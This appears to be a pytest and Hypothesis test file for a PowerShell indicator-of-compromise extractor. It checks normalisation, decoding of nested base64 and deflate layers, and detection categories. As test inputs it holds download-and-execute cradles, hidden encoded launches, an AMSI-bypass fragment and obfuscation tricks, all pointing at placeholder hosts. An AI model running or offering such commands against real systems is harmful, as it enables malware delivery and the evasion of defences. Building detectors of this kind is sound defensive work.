"""The PowerShell extractor: golden cases per IOC category and encoding trick, and properties."""

from __future__ import annotations

import base64
import json
from pathlib import Path

import numpy as np
import pyarrow as pa
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from vigil.features.powershell import PowerShellExtractor

GOLDEN = [
    json.loads(line)
    for line in (Path(__file__).parents[1] / "data" / "powershell_golden.jsonl")
    .read_text()
    .splitlines()
    if line.strip()
]


@pytest.fixture(scope="module")
def extractor() -> PowerShellExtractor:
    return PowerShellExtractor()


@pytest.mark.parametrize("case", GOLDEN, ids=[c["case"] for c in GOLDEN])
def test_golden_case(extractor: PowerShellExtractor, case: dict) -> None:
    analysis = extractor.analyze([case["input"]])
    if "normalized" in case:
        assert extractor.normalize([case["input"]]).to_pylist() == [case["normalized"]]
    if "iocs" in case:
        assert sorted(extractor.indicators([case["input"]]).to_pylist()[0]) == sorted(case["iocs"])
    if "decoded_layers" in case:
        assert analysis.layers[0] == case["decoded_layers"]


def test_catalog_covers_every_required_category_with_80_plus_iocs(
    extractor: PowerShellExtractor,
) -> None:
    categories = set(extractor.catalog.categories)
    assert {
        "download_cradle",
        "execution",
        "launch_flags",
        "obfuscation",
        "amsi_logging_bypass",
        "reflection_memory",
        "credential_access",
        "persistence",
        "lateral_movement",
    } <= categories
    assert len(extractor.catalog.indicators) >= 80


def test_feature_matrix_shape_names_and_null_rows(extractor: PowerShellExtractor) -> None:
    matrix = extractor.transform(["iex (iwr http://a)", None, ""])
    assert matrix.values.shape == (3, extractor.spec.width)
    assert matrix.values.dtype == np.float32
    assert matrix.names == extractor.spec.names
    assert matrix.valid.tolist() == [True, False, True]
    assert not matrix.values[1].any()
    assert matrix.column("ioc:iex")[0] > 0


def test_indicators_are_null_for_null_input(extractor: PowerShellExtractor) -> None:
    assert extractor.indicators([None, "iex $x"]).to_pylist() == [None, ["iex"]]


def test_feature_spec_id_is_stable_and_changes_with_the_catalog(
    extractor: PowerShellExtractor,
) -> None:
    again = PowerShellExtractor()
    assert extractor.spec.id == again.spec.id
    assert PowerShellExtractor(buckets=512).spec.id != extractor.spec.id


def test_chunked_and_plain_inputs_agree(extractor: PowerShellExtractor) -> None:
    rows = ["iex $a", None, "Get-Process", "powershell -enc SQBFAFgA"]
    chunked = pa.chunked_array([rows[:2], rows[2:]], type=pa.string())
    np.testing.assert_array_equal(
        extractor.transform(chunked).values, extractor.transform(rows).values
    )


def test_huge_binary_and_odd_inputs_give_defined_rows(extractor: PowerShellExtractor) -> None:
    huge = "iex " + "A" * 1_000_000
    odd = [huge, "\x00\x01\x02", "powershell -enc ////", "-e", "'" * 1000 + "+" * 1000, "🙂" * 1000]
    matrix = extractor.transform(odd)
    assert np.isfinite(matrix.values).all()
    assert matrix.valid.all()


def test_deflate_wrapped_payload_is_inflated(extractor: PowerShellExtractor) -> None:
    import zlib

    compressor = zlib.compressobj(wbits=-15)
    raw = compressor.compress(b"IEX (New-Object Net.WebClient).DownloadString('http://x')")
    raw += compressor.flush()
    line = (
        "iex(New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{base64.b64encode(raw).decode()}'),"
        "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    iocs = extractor.indicators([line]).to_pylist()[0]
    assert "downloadstring" in iocs
    assert "deflatestream" in iocs


def test_a_switch_at_the_end_of_a_row_is_not_read_into_the_next_row(
    extractor: PowerShellExtractor,
) -> None:
    """Found by hypothesis: ``-e`` then a row starting ``c:\\...`` was matched as ``-ec``
    across the row end, which hid the ``-e`` hit, so the batch disagreed with the row."""
    payload = base64.b64encode("Get-ChildItem".encode("utf-16-le")).decode()
    rows = ["-e", f"C:\\Windows\\powershell.exe -NoProfile -e {payload}"]
    batch = extractor.transform(rows).values
    for i, row in enumerate(rows):
        np.testing.assert_array_equal(extractor.transform([row]).values[0], batch[i])
    assert extractor.indicators(rows).to_pylist()[0] == ["-encodedcommand"]


def test_nul_interleaved_text_reads_like_its_clean_form(extractor: PowerShellExtractor) -> None:
    """A UTF-16 script read as single bytes (``f\\0u\\0n...``), plain or re-launched
    encoded, gets the features of the script itself."""
    script = "function global:Get-LoggedOnUser { Get-CimInstance Win32_LoggedOnUser }"
    interleaved = "".join(f"{c}\x00" for c in script)
    payload = base64.b64encode(interleaved.encode("utf-16-le")).decode()
    encoded = f"powershell -w hidden -enc {payload}"
    assert (
        extractor.normalize([interleaved]).to_pylist() == extractor.normalize([script]).to_pylist()
    )
    clean = extractor.transform([script]).values[0]
    np.testing.assert_array_equal(extractor.transform([interleaved]).values[0], clean)
    analysis = extractor.analyze([encoded])
    assert analysis.layers[0] == 1  # decoded as text, not left as a binary blob


def test_nested_encoding_is_unwrapped(extractor: PowerShellExtractor) -> None:
    inner = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
    # -w hidden keeps each launcher as evidence (an ordinary one is unwrapped instead)
    once = "powershell -w hidden -enc " + base64.b64encode(inner.encode("utf-16-le")).decode()
    twice = "powershell -w hidden -e " + base64.b64encode(once.encode("utf-16-le")).decode()
    analysis = extractor.analyze([twice])
    assert analysis.layers[0] == 2
    assert "downloadstring" in extractor.indicators([twice]).to_pylist()[0]


# -- properties -------------------------------------------------------------------------------

fragments = st.sampled_from(
    [
        "IEX",
        "(New-Object Net.WebClient)",
        ".DownloadString('http://a.example/x')",
        "powershell.exe",
        "-NoProfile",
        "-ExecutionPolicy Bypass",
        "-w hidden",
        "Get-Service",
        "| Restart-Service",
        "[Ref].Assembly.GetType('AmsiUtils')",
        "$env:TEMP",
        "Invoke-WebRequest -Uri http://srv/a.zip",
        "Ünïcode",
        "中文",
        ";",
        "'x'",
    ]
)
command_lines = st.lists(fragments, min_size=1, max_size=12).map(" ".join)
any_text = st.text(max_size=300)
PROPERTY = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@PROPERTY
@given(st.lists(st.one_of(st.none(), any_text, command_lines), max_size=20))
def test_never_raises_and_batch_equals_row_by_row(values: list[str | None]) -> None:
    extractor = PowerShellExtractor()
    batch = extractor.transform(values).values
    assert np.isfinite(batch).all()
    for i, value in enumerate(values):
        np.testing.assert_allclose(extractor.transform([value]).values[0], batch[i], atol=1e-6)


@PROPERTY
@given(st.lists(st.one_of(any_text, command_lines), min_size=1, max_size=10))
def test_deterministic(values: list[str]) -> None:
    a = PowerShellExtractor().transform(values).values
    b = PowerShellExtractor().transform(values).values
    np.testing.assert_array_equal(a, b)


def _ticked(text: str, data: st.DataObject) -> str:
    # A backtick before a letter that is not an escape letter is ignored by PowerShell.
    out = []
    for ch in text:
        if ch.isalpha() and ch.lower() not in "0abefnrtuv" and data.draw(st.booleans()):
            out.append("`")
        out.append(ch)
    return "".join(out)


@PROPERTY
@given(command_lines, st.data())
def test_invariant_to_case_ticks_and_carets(line: str, data: st.DataObject) -> None:
    extractor = PowerShellExtractor()
    cased = "".join(c.upper() if data.draw(st.booleans()) else c.lower() for c in line)
    ticked = _ticked(cased, data)
    careted = ticked.replace("p", "^p")
    np.testing.assert_allclose(
        extractor.transform([line.lower()]).values,
        extractor.transform([careted]).values,
        atol=1e-6,
    )


mostly_ascii_lines = command_lines.filter(lambda s: sum(c.isascii() for c in s) * 2 > len(s))


@PROPERTY
@given(
    mostly_ascii_lines,
    st.sampled_from(["-e", "-ec", "-enc", "-EncodedCommand", "/enc", "-encodedc"]),
    st.sampled_from(
        [
            "powershell",
            "powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass",
            r'"C:\Program Files\PowerShell\7\pwsh.exe" -nol -nop -ep:RemoteSigned',
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe -InputFormat None",
        ]
    ),
)
def test_an_ordinary_encoded_launch_has_exactly_the_features_of_its_script(
    line: str, flag: str, launcher: str
) -> None:
    """Re-launched with switches that change nothing about what runs, a script is the script.

    Scripts are mostly ASCII; see normalize._as_text for non-Latin-only payloads.
    """
    extractor = PowerShellExtractor()
    encoded = f"{launcher} {flag} " + base64.b64encode(line.encode("utf-16-le")).decode()
    np.testing.assert_array_equal(
        extractor.transform([encoded]).values, extractor.transform([line]).values
    )


@PROPERTY
@given(mostly_ascii_lines, st.sampled_from(["-w hidden", "-NoExit", "-Version 2", "-sta"]))
def test_a_launch_with_telling_switches_keeps_them_beside_its_script(
    line: str, switch: str
) -> None:
    """Any other switch keeps the launch as evidence: the decoded script drives the content
    features and the launcher adds its switches, its executable and one decoded layer."""
    extractor = PowerShellExtractor()
    names = extractor.spec.names
    payload = base64.b64encode(line.encode("utf-16-le")).decode()
    encoded = f"powershell {switch} -enc {payload}"
    a = extractor.transform([encoded]).values[0]
    b = extractor.transform([line]).values[0]
    launcher = {"launch_flags"}
    ioc_category = {i.name: i.category for i in extractor.catalog.indicators}
    counters = {
        "stat:decoded_layers",
        "stat:binary_payloads",
        "stat:failed_payloads",
        "stat:ioc_total",
        "stat:ioc_distinct",
        "stat:categories_hit",
    }

    def content_feature(name: str) -> bool:
        kind, _, what = name.partition(":")
        if name in counters:
            return False
        if kind in ("ioc", "ioc_present", "ioc_ratio"):
            return ioc_category[what] not in launcher
        if kind.startswith("category"):
            return what not in launcher
        return True

    keep = [i for i, name in enumerate(names) if content_feature(name)]
    np.testing.assert_allclose(a[keep], b[keep], atol=1e-6)
    assert a[names.index("stat:decoded_layers")] == 1
    assert a[names.index("ioc:powershell-exe")] > 0
